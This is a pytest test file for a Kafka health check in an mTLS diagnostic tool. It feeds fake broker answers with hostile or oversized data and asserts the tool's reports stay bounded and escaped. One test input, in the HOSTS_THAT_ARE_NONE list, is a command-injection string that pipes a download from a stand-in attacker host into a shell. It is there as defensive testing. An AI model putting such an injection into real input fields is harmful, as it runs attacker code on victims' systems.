"""The look inside a cluster that answers oddly: what is said of it, and that nothing is said that is not so."""

from __future__ import annotations

import json
import socket
import struct
import threading
from collections import Counter
from collections.abc import Callable
from dataclasses import replace
from ipaddress import ip_address
from typing import Any

import pytest
import trio

from mtlskit.doctor.case import Case, Identified
from mtlskit.doctor.checks.kafka import look_inside_kafka
from mtlskit.doctor.finding import Finding, Verdict
from mtlskit.doctor.kafka.members import MOST_VISITED
from mtlskit.doctor.kafka.session import AT_ONCE, read_aside
from mtlskit.errors import Code
from mtlskit.net.identity import load_snapshot
from mtlskit.wire.kafka.cluster import MOST_MEMBERS, MOST_PARTITIONS
from tests.doctor.catalogue.kafka import gathered
from tests.services.pki import Pki
from tests.support.kafka_liar import API_VERSIONS, HANG_UP, METADATA, Body, answer_to, metadata, text
from tests.support.kafka_looks import broker, look, looked, named

real_look_up = socket.getaddrinfo


def only_addresses(host: str, port: int, family: int = 0, type: int = 0, proto: int = 0, flags: int = 0) -> list[Any]:  # noqa: A002
    """In place of getaddrinfo(3), where no name is to be looked up."""
    ip_address(host)
    return [*real_look_up(host, port, family, type, proto, flags)]


NO_GROUPS = answer_to(16, struct.pack("!hi", 0, 0))


def alone(host: str = "127.0.0.1", **more: object) -> Callable[[list[int]], Body]:
    """A cluster of the broker itself."""
    return lambda ports: metadata(lambda: [(1, host, ports[0])], **more)  # type: ignore[arg-type]


def topic(
    name: str, *leaders: int, error: int = 0, replicas: int = 1, in_sync: int = 1, internal: bool = False
) -> bytes:
    """As Metadata has it; a partition for each leader."""
    parts = b"".join(
        struct.pack("!hii", 0 if leader >= 0 else 5, number, leader)
        + struct.pack(f"!i{replicas}i", replicas, *range(replicas))
        + struct.pack(f"!i{in_sync}i", in_sync, *range(in_sync))
        for number, leader in enumerate(leaders)
    )
    return struct.pack("!h", error) + text(name) + struct.pack("!?i", internal, len(leaders)) + parts


def topics(*each: bytes) -> bytes:
    return struct.pack("!i", len(each)) + b"".join(each)


def test_a_healthy_one(pki: Pki) -> None:
    own = alone(topics=topics(topic("orders", 1, 1), topic("__consumer_offsets", 1, internal=True)))
    groups = answer_to(16, struct.pack("!hi", 0, 2) + text("g.a") + text("consumer") + text("b") + text("consumer"))
    findings = looked(pki, groups, own=own, prefix="g.")
    assert {finding.verdict for finding in findings} == {Verdict.PASS}
    [seen] = named(findings, "kafka.topics")
    assert (seen.facts["names"], seen.facts["with_prefix"]) == (["orders"], 0)
    [seen] = named(findings, "kafka.groups")
    assert (seen.facts["names"], seen.facts["with_prefix"]) == (["b", "g.a"], 1)
    [seen] = named(findings, "kafka.partitions")
    assert seen.facts["count"] == 3
    json.dumps([dict(finding.facts) for finding in findings])  # which scripts are given


def test_without_an_identity_nothing_is_looked_at(pki: Pki) -> None:
    [case] = gathered(pki, "127.0.0.1:1").cases
    [finding] = trio.run(look_inside_kafka, case, case.tunnel.upstream, Identified(), "")
    assert (finding.verdict, finding.because) == (Verdict.SKIPPED, "identity")


def test_an_election_is_waited_for(pki: Pki) -> None:
    """The first answer knows no leader of a partition, the next one does."""
    states = [topics(topic("orders", -1)), topics(topic("orders", 1))]

    def own(ports: list[int]) -> Body:
        def body(key: int, request: bytes) -> bytes | None:
            whole = request.endswith(b"\xff\xff\xff\xff")
            state = (states.pop(0) if len(states) > 1 else states[0]) if key == METADATA and whole else topics()
            return metadata(lambda: [(1, "127.0.0.1", ports[0])], topics=state)(key, request)

        return body

    findings = looked(pki, NO_GROUPS, own=own)
    assert {finding.verdict for finding in findings} == {Verdict.PASS}


def test_replicas_that_lag_are_told(pki: Pki) -> None:
    [finding] = named(
        looked(pki, NO_GROUPS, own=alone(topics=topics(topic("orders", 1, 1, replicas=3, in_sync=2)))),
        "kafka.partitions",
    )
    assert finding.verdict is Verdict.PASS
    assert "2 of them with fewer replicas in sync" in finding.seen
    assert finding.facts["under_replicated"] == 2


@pytest.mark.parametrize("sound_first", [True, False])
def test_one_endpoint_of_two_that_is_no_use(pki: Pki, sound_first: bool) -> None:
    """The tunnel takes the first that shakes hands: the other one is come to only if that is away."""
    with broker(pki, NO_GROUPS, own=alone()) as sound, broker(pki, answer_to(METADATA, b"")) as useless:
        ports = (sound, useless) if sound_first else (useless, sound)
        findings = look(gathered(pki, tuple(f"127.0.0.1:{port}" for port in ports)))
    [trouble] = [each for each in findings if each.verdict in (Verdict.FAIL, Verdict.WARN)]
    assert trouble.verdict is (Verdict.WARN if sound_first else Verdict.FAIL)
    assert (trouble.check, trouble.about) == ("kafka.versions", f"127.0.0.1:{useless}")


def test_partitions_without_a_leader_are_counted(pki: Pki) -> None:
    own = alone(topics=topics(topic("a", *[-1] * 5), topic("b", -1, 1)))
    [finding] = named(looked(pki, NO_GROUPS, own=own), "kafka.partitions")
    assert finding.code is Code.KAFKA_NO_LEADER
    assert finding.seen == "6 of 7 partitions have no leader: a-0, a-1, a-2, b-0, and 2 more"


def test_more_topics_than_are_read(pki: Pki) -> None:
    """That is no fault of the cluster's: its brokers are looked at all the same."""

    def own(ports: list[int]) -> Body:
        def body(key: int, request: bytes) -> bytes | None:
            if key == METADATA and request.endswith(b"\xff\xff\xff\xff"):
                return bytes(17 * 1024 * 1024)
            return metadata(lambda: [(1, "127.0.0.1", ports[0])])(key, request)

        return body

    findings = looked(pki, NO_GROUPS, own=own)
    assert {finding.verdict for finding in findings} == {Verdict.PASS, Verdict.SKIPPED}
    [finding] = named(findings, "kafka.topics")
    assert finding.because == "the list of topics is above 100,000 partitions or 16 MiB"


def test_more_small_topics_than_are_read(pki: Pki) -> None:
    """Eleven bytes each: their number is refused, and none of them is kept."""
    many = struct.pack("!i", MOST_PARTITIONS + 1) + topic("ab") * (MOST_PARTITIONS + 1)

    def own(ports: list[int]) -> Body:
        def body(key: int, request: bytes) -> bytes | None:
            whole = key == METADATA and request.endswith(b"\xff\xff\xff\xff")
            return metadata(lambda: [(1, "127.0.0.1", ports[0])], topics=many if whole else topics())(key, request)

        return body

    findings = looked(pki, NO_GROUPS, own=own)
    assert {finding.verdict for finding in findings} == {Verdict.PASS, Verdict.SKIPPED}
    [finding] = named(findings, "kafka.topics")
    assert finding.because == "the list of topics is above 100,000 partitions or 16 MiB"


def test_more_brokers_than_a_cluster_has(pki: Pki) -> None:
    crowd = metadata(lambda: [(node, "b", 1) for node in range(MOST_MEMBERS + 1)])
    findings = looked(pki, crowd)
    assert findings[0].code is Code.KAFKA_RESPONSE_TOO_LARGE


def test_one_endpoint_is_asked_for_all_topics(pki: Pki) -> None:
    """And the next one only if the first has nothing to say."""
    whole: list[str] = []

    def watching(name: str, *, hangs_up: bool = False) -> Body:
        def body(key: int, request: bytes) -> bytes | None:
            if key == METADATA and request.endswith(b"\xff\xff\xff\xff"):
                whole.append(name)
                return HANG_UP if hangs_up else None
            return None

        return body

    with (
        broker(pki, watching("a", hangs_up=True), NO_GROUPS, own=alone()) as first,
        broker(pki, watching("b"), NO_GROUPS, own=alone()) as second,
        broker(pki, watching("c"), NO_GROUPS, own=alone()) as third,
    ):
        findings = look(gathered(pki, tuple(f"127.0.0.1:{port}" for port in (first, second, third))))
    assert whole == ["a", "b"]
    [trouble] = [each for each in findings if each.verdict in (Verdict.FAIL, Verdict.WARN)]
    assert (trouble.code, trouble.about) == (Code.UPSTREAM_CLOSED, f"127.0.0.1:{first}")


def test_names_of_topics_and_groups_are_counted_and_few_are_kept(pki: Pki) -> None:
    names = [f"{'ours' if number % 2 else 'theirs'}.{number:03}" for number in range(200)]
    groups = answer_to(16, struct.pack("!hi", 0, 200) + b"".join(text(name) + text("consumer") for name in names))
    own = alone(topics=topics(*(topic(name, 1) for name in names)))
    findings = looked(pki, groups, own=own, prefix="ours.")
    for check in ("kafka.topics", "kafka.groups"):
        [finding] = named(findings, check)
        assert (finding.facts["count"], finding.facts["with_prefix"]) == (200, 100)
        assert finding.facts["names"] == sorted(names)[:50]


def test_more_groups_than_are_read(pki: Pki) -> None:
    """That is no fault of the broker's."""
    findings = looked(pki, answer_to(16, struct.pack("!hi", 0, 100_001) + bytes(400_004)), own=alone())
    assert {finding.verdict for finding in findings} == {Verdict.PASS, Verdict.SKIPPED}


def test_names_are_looked_up_by_few_threads(pki: Pki, monkeypatch: pytest.MonkeyPatch) -> None:
    """Whatever a cluster names: no more at once, and none of those that all of the process shares."""
    held = threading.Event()
    asked: Counter[str] = Counter()

    def slow(host: str, port: int, family: int = 0, type: int = 0, proto: int = 0, flags: int = 0) -> list[Any]:  # noqa: A002
        if flags & socket.AI_NUMERICHOST or not host.startswith("slow-"):
            return [*real_look_up(host, port, family, type, proto, flags)]
        asked[host] += 1
        held.wait()
        raise socket.gaierror(socket.EAI_AGAIN, "no answer")

    monkeypatch.setattr(socket, "getaddrinfo", slow)
    left: list[int] = []

    async def watched(case: Case, identified: Identified) -> tuple[Finding, ...]:
        found = await look_inside_kafka(case, case.tunnel.upstream, identified, "")
        left.append(trio.to_thread.current_default_thread_limiter().borrowed_tokens)
        return found

    cluster = [(node, f"slow-{node}.example", 9092) for node in range(60)]
    with broker(pki, NO_GROUPS, metadata(lambda: cluster)) as port:
        [case] = gathered(pki, f"127.0.0.1:{port}").cases
        assert case.identity is not None
        snapshot = load_snapshot(case.identity, verify=case.tunnel.verify)
        case = replace(case, means=replace(case.means, step=0.5))
        findings = trio.run(watched, case, Identified(snapshot=snapshot))
        held.set()
    assert len(asked) == AT_ONCE
    assert left == [0]
    visits = named(findings, "kafka.broker")
    assert {finding.code for finding in visits[:-1]} == {Code.KAFKA_ODD_ADDRESS}
    assert (visits[-1].because, visits[-1].about) == (
        "the others took all the time",
        f"{60 - len(visits[:-1])} more brokers",
    )


async def test_reading_a_long_answer_can_be_stopped() -> None:
    held = threading.Event()

    def read(_answer: bytes) -> None:
        held.wait()

    with trio.move_on_after(0.01) as scope:
        await read_aside(read, b"")
    held.set()
    assert scope.cancelled_caught


def test_more_brokers_than_are_visited(pki: Pki) -> None:
    named_brokers = [(node, f"host-{node}", 0) for node in range(MOST_VISITED + 3)]
    visits = named(looked(pki, metadata(lambda: named_brokers)), "kafka.broker")
    assert [finding.verdict for finding in visits] == [Verdict.FAIL] * MOST_VISITED + [Verdict.SKIPPED]
    assert visits[-1].about == "3 more brokers"


@pytest.mark.parametrize("error", [31, 15])
def test_groups_that_may_not_be_seen(pki: Pki, error: int) -> None:
    findings = looked(pki, answer_to(16, struct.pack("!hi", error, 0)), own=alone())
    [finding] = named(findings, "kafka.groups")
    assert finding.verdict is Verdict.SKIPPED
    assert not [each for each in findings if each.verdict in (Verdict.FAIL, Verdict.WARN)]


def test_a_wildcard_that_leads_there_by_chance(pki: Pki) -> None:
    with broker(pki, NO_GROUPS, own=alone("0.0.0.0")) as port:
        findings = look(gathered(pki, f"127.0.0.1:{port}", verify="ca"))
    [finding] = named(findings, "kafka.broker")
    assert (finding.verdict, finding.code) == (Verdict.WARN, Code.KAFKA_ODD_ADDRESS)


HOSTS_THAT_ARE_NONE = (
    "",
    "a b",
    "caf\u00e9",
    "a\x1b[31m",
    "h" * 300,
    "x`;curl${IFS}evil.example|sh;`",
    "-x",
    "a'b",
    "[::1]",
)


@pytest.mark.parametrize("host", HOSTS_THAT_ARE_NONE)
def test_hosts_that_are_none(pki: Pki, host: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """They are neither looked up nor put into a command."""
    monkeypatch.setattr(socket, "getaddrinfo", only_addresses)
    [finding] = named(looked(pki, metadata(lambda: [(1, host, 9092)])), "kafka.broker")
    assert finding.code is Code.KAFKA_ODD_ADDRESS
    assert "that is no address" in finding.seen
    assert not finding.commands
    assert host not in finding.hint or not host
    assert finding.seen.isprintable()
    assert finding.about.isprintable()
    assert len(finding.seen) < 1000


def test_strangers_words_are_bounded_and_escaped(pki: Pki) -> None:
    nasty = "\x1b[2J\n\u202e" + "x" * 30_000
    groups = answer_to(16, struct.pack("!hi", 0, 60) + (text(nasty) + text("")) * 60)
    findings = looked(pki, groups, own=alone(topics=topics(topic(nasty, -1), topic(nasty + "y", 1))))
    for finding in findings:
        told = json.dumps(dict(finding.facts), ensure_ascii=False)
        assert (finding.seen + finding.about + told).isprintable()
        assert len(finding.seen) < 2000
        assert len(told) < 50 * 300


def test_a_login_that_is_wanted(pki: Pki) -> None:
    mechanisms = answer_to(17, struct.pack("!hi", 33, 2) + text("SCRAM-SHA-512") + text("\x1b" * 500))
    findings = looked(pki, answer_to(METADATA, HANG_UP), mechanisms, write_test="orders")
    assert [finding.verdict for finding in findings] == [Verdict.PASS, Verdict.SKIPPED, Verdict.SKIPPED]
    assert "SCRAM-SHA-512" in findings[1].seen
    assert findings[1].seen.isprintable()


@pytest.mark.parametrize("answer", [HANG_UP, b"\x7f\xff"])
def test_a_broker_that_hangs_up_and_does_not_say_how_to_log_in(pki: Pki, answer: bytes) -> None:
    findings = looked(pki, answer_to(METADATA, HANG_UP), answer_to(17, answer))
    assert findings[0].code is Code.UPSTREAM_CLOSED
    assert (findings[1].verdict, findings[1].because) == (Verdict.SKIPPED, "kafka.versions")


def test_a_broker_older_than_clusters_have_ids(pki: Pki) -> None:
    """Whoever is at a broker's address may speak less than the one that named it."""
    offers = ((3, 0, 2), (18, 0, 0)), ((3, 0, 1), (18, 0, 0))
    asked: list[int] = []

    def speaks(key: int, _request: bytes) -> bytes | None:
        if key != API_VERSIONS:
            return None
        asked.append(key)
        offer = offers[min(len(asked), 2) - 1]
        return struct.pack("!hi", 0, len(offer)) + b"".join(struct.pack("!hhh", *each) for each in offer)

    findings = looked(pki, speaks, own=alone())
    assert {finding.verdict for finding in findings} == {Verdict.PASS, Verdict.SKIPPED}
    assert [finding.facts["release"] for finding in named(findings, "kafka.broker")] == ["0.10"]


def test_a_broker_that_breaks_off_when_asked_for_its_groups(pki: Pki) -> None:
    [finding] = named(looked(pki, answer_to(16, HANG_UP), own=alone()), "kafka.broker")
    assert finding.code is Code.KAFKA_BROKER_UNREACHABLE
    assert "closed the connection after a ListGroups request" in finding.seen


def test_a_command_looks_at_that_broker_alone(pki: Pki) -> None:
    findings = looked(pki, metadata(lambda: [(1, "127.0.0.1", 1)]), verify="name:localhost")
    [finding] = named(findings, "kafka.broker")
    [command] = finding.commands
    assert command.startswith("mtlskit doctor --kind kafka --upstream 127.0.0.1:1 --cert ")
    assert command.endswith(" --verify name:localhost")


async def test_whoever_gives_up_leaves_nothing_behind(pki: Pki) -> None:
    """pytest fails for a socket that is left open."""
    with broker(pki, answer_to(METADATA, b"")) as port:
        [case] = gathered(pki, f"127.0.0.1:{port}").cases
        assert case.identity is not None
        snapshot = load_snapshot(case.identity, verify=case.tunnel.verify)
        with trio.CancelScope() as scope:
            async with trio.open_nursery() as nursery:

                async def examine() -> None:
                    await look_inside_kafka(case, case.tunnel.upstream, Identified(snapshot=snapshot), "")

                nursery.start_soon(examine)
                await trio.testing.wait_all_tasks_blocked()
                scope.cancel()
        assert scope.cancelled_caught
